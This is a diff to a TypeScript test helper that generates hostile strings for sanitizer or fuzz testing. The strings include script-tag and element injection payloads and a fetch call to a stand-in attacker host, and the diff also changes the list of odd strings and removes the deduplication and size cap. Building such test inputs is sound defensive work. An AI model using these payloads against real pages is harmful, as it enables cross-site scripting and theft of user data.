@@ -1,7 +1,7 @@
 const URLS = ['https://attacker.example/x', '//attacker.example/x'];
 const CODE = ['attacked()', 'fetch("https://attacker.example/x")'];
 
-/** Returns 200 different strings that would do something if a page treated them as markup, a link or a style. */
+/** Returns strings that would do something if a page treated them as markup, a link or a style, and strings with odd characters. */
 export function hostileStrings(): string[] {
   const markup = CODE.flatMap((code) => [
     `<script>${code}</script>`,
@@ -52,20 +52,7 @@ export function hostileStrings(): string[] {
     `<portal src='${url}'></portal>`,
     `<source srcset='${url} 2x'>`,
   ]);
-  const odd = [
-    '__proto__',
-    'constructor',
-    'toString',
-    '',
-    ' ',
-    '\u202Egnp.exe',
-    'a\u0000b',
-    '\uFFFE',
-    '&lt;b&gt;',
-    '%3Cb%3E',
-  ];
+  const odd = ['__proto__', 'constructor', 'toString', '\u202Egnp.exe', '\uFFFE', '&lt;b&gt;', '%3Cb%3E'];
   const wrappers = [(text: string) => text, (text: string) => `"${text}"`, (text: string) => `é日本 ${text} 🚀`];
-  const all = new Set([...markup, ...loads].flatMap((text) => wrappers.map((wrap) => wrap(text))));
-  for (const text of odd) if (text.trim() !== '' && !text.includes('\u0000')) all.add(text);
-  return [...all].slice(0, 200);
+  return [...[...markup, ...loads].flatMap((text) => wrappers.map((wrap) => wrap(text))), ...odd];
 }
